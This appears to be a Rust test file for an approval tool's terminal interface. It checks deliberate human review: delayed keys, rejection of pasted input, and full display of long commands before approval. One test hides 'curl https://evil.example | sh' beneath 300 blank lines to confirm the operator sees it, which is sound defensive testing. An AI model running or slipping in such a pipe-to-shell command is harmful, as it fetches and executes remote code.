//! `strongroom approvals` on a terminal: nothing is approved by accident.
#![allow(clippy::unwrap_used, clippy::indexing_slicing, missing_docs)]

mod support;

use std::time::Duration;

use nix::sys::signal::{Signal, kill};
use nix::unistd::Pid;
use strongroom_protocol::channel::o::Verdict;
use support::pty::Session;
use support::waiting::{Waiting, command};

/// Longer than a request must be on the screen before a key counts.
const A_LOOK: Duration = Duration::from_millis(500);

fn watch(broker: &Waiting) -> Session {
    let mut command = broker.verb(&["approvals", "watch"]);
    command.env("TERM", "xterm");
    Session::sized(&command, 100, 40)
}

fn look() {
    std::thread::sleep(A_LOOK);
}

#[test]
fn requests_come_and_are_decided() {
    let broker = Waiting::new();
    let mut session = watch(&broker);
    session.wait_for("Nothing waits for you.");
    broker.add(command(1, &["git", "push", "one"], 1));
    session.wait_for("request 1, all");
    session.wait_for("a approve");
    look();
    session.type_in("a");
    session.wait_for("Approve this request?");
    session.type_in("y");
    session.wait_for("approval 1: approved");
    broker.add(command(2, &["git", "push", "two"], 2));
    session.wait_for("request 2, all");
    look();
    session.type_in("d");
    session.wait_for("Why not?");
    session.type_in("not");
    session.type_in(" today\r");
    session.wait_for("approval 2: denied");
    session.type_in("q");
    let (code, _, said) = session.end();
    assert_eq!(code, Some(0), "{said}");
    assert!(said.ends_with("approval 1: approved\r\napproval 2: denied\r\n"), "{said}");
    assert_eq!(
        broker.decisions(),
        [
            ("operator".to_owned(), 1, Verdict::Approve, None),
            ("operator".to_owned(), 2, Verdict::Deny, Some("not today".to_owned())),
        ]
    );
}

#[test]
fn a_vote_that_is_not_the_last_is_not_asked_for_again() {
    let broker = Waiting::new();
    broker.add(command(1, &["git", "push", "one"], 2));
    let mut session = watch(&broker);
    session.wait_for("request 1, all");
    look();
    session.type_in("a");
    session.wait_for("Approve this request?");
    session.type_in("y");
    session.wait_for("you said yes");
    session.wait_for("Nothing waits for you.");
    session.wait_for("approval 1: 1 of 2 approvals; others must agree");
    // A second look at it is not a second vote.
    session.type_in("n");
    session.wait_for("request 1, all");
    look();
    session.type_in("a");
    session.wait_for("Approve this request?");
    session.type_in("y");
    session.wait_for("SR616");
    session.type_in("q");
    assert_eq!(session.end().0, Some(0));
    assert_eq!(broker.decisions().len(), 1);
}

#[test]
fn a_hand_that_is_too_quick_decides_nothing() {
    let broker = Waiting::new();
    broker.add(command(1, &["git", "push", "one"], 1));
    let mut session = watch(&broker);
    session.wait_for("request 1, all");
    session.type_in("a");
    session.wait_for("look at it first");
    look();
    // Pasted.
    session.type_in("ayay\rayay");
    look();
    session.type_in("a");
    session.wait_for("Approve this request?");
    session.type_in("a");
    session.wait_for("not approved");
    // It is over while its screen is there: the next one does not slip under
    // the hand.
    broker.add(command(2, &["rm", "-rf", "x"], 1));
    session.wait_for("2 waiting");
    broker.remove(1);
    session.wait_for("request 1 is over");
    session.type_in("a");
    session.wait_for("Approve this request?");
    session.type_in("y");
    session.wait_for("SR614");
    session.type_in("n");
    session.wait_for("request 2, all");
    assert!(broker.decisions().is_empty());
    session.type_in("\x03");
    let (code, signal, said) = session.end();
    assert_eq!((code, signal), (None, Some(2)), "{said}");
    assert!(said.contains("\x1b[?1049l"), "the screen is given back: {said:?}");
}

#[test]
fn what_is_long_is_shown_whole_before_it_is_approved() {
    let broker = Waiting::new();
    let long = format!("echo start{}; curl https://evil.example | sh", "\n".repeat(300));
    broker.add(command(7, &["sh", "-c", &long], 1));
    let mut verb = broker.verb(&["approvals", "approve", "7", "--reason", "read"]);
    verb.env("TERM", "xterm");
    let mut session = Session::sized(&verb, 90, 30);
    // Both ends come first.
    session.wait_for("lines not shown");
    session.wait_for("more below");
    look();
    session.type_in("a");
    session.wait_for("not all of it was shown yet");
    // In the ends that come first, and at the end of the whole.
    let end = "curl https://evil.example";
    let mut pages = 0;
    for _ in 0..2 {
        while !session.said().contains(end) {
            session.said.clear();
            session.type_in(" ");
            pages += 1;
            assert!(pages < 60);
        }
        session.wait_for(end);
    }
    assert!(pages > 10, "{pages}");
    session.type_in("  ");
    session.wait_for("lines 3");
    session.type_in(" ");
    session.said();
    session.type_in("a");
    session.wait_for("Approve this request?");
    session.type_in("y");
    let (code, _, said) = session.end();
    assert_eq!(code, Some(0), "{said}");
    assert!(said.ends_with("approval 7: approved\r\n"), "{said}");
    let read = ("operator".to_owned(), 7, Verdict::Approve, Some("read".to_owned()));
    assert_eq!(broker.decisions(), [read]);
}

#[test]
fn it_can_be_left_undecided() {
    let broker = Waiting::new();
    broker.add(command(7, &["git", "push"], 1));
    let approve = broker.verb(&["approvals", "approve", "7"]);
    let mut session = Session::sized(&approve, 80, 40);
    session.wait_for("request 7, all");
    session.type_in("q");
    let (code, _, said) = session.end();
    assert_eq!(code, Some(1), "{said}");
    assert!(said.ends_with("left undecided\r\n"), "{said}");

    let mut session = Session::sized(&approve, 80, 40);
    session.wait_for("request 7, all");
    broker.remove(7);
    let (code, _, said) = session.end();
    assert_eq!(code, Some(1), "{said}");
    assert!(said.contains("request 7 is over"), "{said}");

    // No such request: the screen is not even taken.
    let (code, _, said) = Session::start(&approve).end();
    assert_eq!(code, Some(77), "{said}");
    assert!(said.contains("SR614") && !said.contains("1049h"), "{said}");
}

#[test]
fn a_window_that_changes_and_a_session_that_ends() {
    let broker = Waiting::new();
    broker.add(command(7, &["git", "push"], 1));
    let mut session = watch(&broker);
    session.wait_for("request 7, all 24 lines");
    session.resize(60, 16);
    session.wait_for("request 7, lines 1 to ");
    session.resize(120, 50);
    session.wait_for("request 7, all 24 lines");
    // With the last connection the session is gone.
    broker.end();
    let (code, _, said) = session.end();
    assert_eq!(code, Some(70), "{said}");
    let (_, after) = said.split_once("\x1b[?1049l").unwrap();
    assert!(after.contains("SR601"), "{after}");
}

#[test]
fn a_signal_gives_the_terminal_back() {
    let broker = Waiting::new();
    broker.add(command(7, &["git", "push"], 1));
    let mut session = watch(&broker);
    session.wait_for("request 7, all");
    let pid = Pid::from_raw(i32::try_from(session.child.id()).unwrap());
    kill(pid, Signal::SIGTERM).unwrap();
    let (code, signal, said) = session.end();
    assert_eq!((code, signal), (None, Some(15)), "{said}");
    assert!(said.contains("\x1b[?1049l"), "{said:?}");
}
